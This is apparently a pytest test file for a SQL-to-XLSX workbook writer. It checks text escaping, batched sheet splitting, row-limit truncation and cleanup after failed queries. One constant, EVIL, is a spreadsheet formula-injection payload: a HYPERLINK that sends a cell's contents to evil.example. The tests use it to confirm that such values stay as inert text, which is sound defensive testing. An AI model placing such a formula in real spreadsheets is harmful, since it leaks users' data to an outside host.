"""The SQL-rendered workbook (`reports.xlsx_sql`): texts round-trip exactly as Excel would show
them, sheets split from one query land in the right sheet across Arrow batches, a sheet over
Excel's row limit is cut and counted, and a failed query leaves no half-written file."""

from __future__ import annotations

import zipfile
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import openpyxl
import pytest

from datamonger.reports import xlsx_sql
from datamonger.reports.xlsx_sql import Column, Sheet, Workbook

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"x")'
# (as written, as a spreadsheet must show it): control characters XML cannot hold are dropped
TEXTS = [
    ("plain", "plain"),
    ("R&D <b>", "R&D <b>"),
    ('say "hi"', 'say "hi"'),
    (" leading", " leading"),
    ("trailing ", "trailing "),
    ("two\nlines", "two\nlines"),
    ("tab\there", "tab\there"),
    ("bell\x07gone\x1f", "bellgone"),
    ("ünïcödé ’", "ünïcödé ’"),
    (EVIL, EVIL),
    ("-5", "-5"),
]


def _sheets(path: Path) -> None:
    """Every part is well-formed XML."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith((".xml", ".rels")):
                ElementTree.fromstring(zf.read(name))


def test_texts_numbers_and_empty_cells_round_trip(tmp_path: Path) -> None:
    con = duckdb.connect()
    con.execute("CREATE TABLE t (n INTEGER, text VARCHAR, code VARCHAR, num INTEGER)")
    rows = [(i, raw, raw, i * 10) for i, (raw, _) in enumerate(TEXTS)]
    rows += [(len(TEXTS), "", None, None), (len(TEXTS) + 1, None, "after blanks", 7)]
    con.executemany("INSERT INTO t VALUES (?, ?, ?, ?)", rows)
    sheet = Sheet(
        "Texts",
        [
            Column("text", "s.text"),
            Column("code", "s.code", code=True),
            Column("number", "s.num", number=True),
        ],
        "SELECT * FROM t",
        order="n",
        title="Values & <specials>",
    )
    path = tmp_path / "t.xlsx"
    wb = Workbook(path)
    wb.add_sql(con, sheet)
    wb.close()
    _sheets(path)
    ws = openpyxl.load_workbook(path)["Texts"]
    got = [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert got[0][0] == ("Values & <specials>", "s")
    assert [v for v, _ in got[1]] == ["text", "code", "number"]
    data = got[2:]
    for (_, shown), row in zip(TEXTS, data, strict=False):
        assert row[0] == row[1] == (shown, "s")  # a code column is escaped value by value
        assert row[2][1] == "n"
    assert [v for v, _ in data[len(TEXTS) - 2]] == [EVIL, EVIL, 90]
    assert [v for v, _ in data[-2]] == [None, None, None]
    assert [v for v, _ in data[-1]] == [None, "after blanks", 7]  # blanks keep their columns
    assert all(t != "f" for row in got for _, t in row)
    assert sheet.rows == len(rows) and sheet.truncated == 0


def test_split_sheets_across_batches_and_cut_at_the_row_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xlsx_sql, "_BATCH", 4)  # runs of a sheet span batches
    monkeypatch.setattr(xlsx_sql, "MAX_ROWS", 10)  # a title and a header: 8 data rows
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE t AS SELECT * FROM (VALUES "
        + ", ".join(
            [f"('a', {i})" for i in range(20)] + [f"('c', {i})" for i in range(5)] + [("('z', 1)")]
        )
        + ") v(k, i)"
    )
    cols = [Column("k", "s.k", code=True), Column("i", "s.i", number=True)]
    sheets = [Sheet(n, cols, "SELECT * FROM t", order="i DESC", title=n) for n in "abc"]
    path = tmp_path / "split.xlsx"
    wb = Workbook(path)
    wb.add_split(con, sheets, "k", ["a", "b", "c"])  # 'b' has no rows; 'z' belongs to none
    wb.close()
    _sheets(path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["a", "b", "c"]
    values = {n: [r for r in book[n].iter_rows(min_row=3, values_only=True)] for n in "abc"}
    assert values["a"] == [("a", i) for i in range(19, 11, -1)]
    assert values["b"] == []
    assert values["c"] == [("c", i) for i in range(4, -1, -1)]
    assert [(s.rows, s.truncated) for s in sheets] == [(20, 12), (0, 0), (5, 0)]


def test_a_failed_query_leaves_no_file(tmp_path: Path) -> None:
    con = duckdb.connect()
    sheet = Sheet(
        "x",
        [Column("x", "error('no such value')")],
        "SELECT * FROM range(3)",
        order="range",
    )
    path = tmp_path / "failed.xlsx"
    wb = Workbook(path)
    with pytest.raises(duckdb.Error, match="no such value"):  # raised from the render thread
        wb.add_sql(con, sheet)
    wb.discard()
    assert not path.exists()


def test_a_failure_while_packing_stops_the_render_thread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The zip side failing (a full disk, say) ends the sheet at once: the thread rendering
    ahead is told to stop rather than left waiting on a queue nobody reads."""
    monkeypatch.setattr(xlsx_sql, "_BATCH", 2)
    con = duckdb.connect()
    sheet = Sheet("x", [Column("i", "s.i", number=True)], "SELECT range AS i FROM range(6)", "i")
    wb = Workbook(tmp_path / "full.xlsx")
    calls = 0

    def full(rows: object) -> bytes:
        nonlocal calls
        calls += 1
        raise OSError("No space left on device")

    monkeypatch.setattr(xlsx_sql, "text_bytes", full)
    with pytest.raises(OSError, match="No space"):
        wb.add_sql(con, sheet)
    assert calls == 1
    wb.discard()
    assert not (tmp_path / "full.xlsx").exists()
    assert con.sql("SELECT 1").fetchall() == [(1,)]  # the connection is free for more work
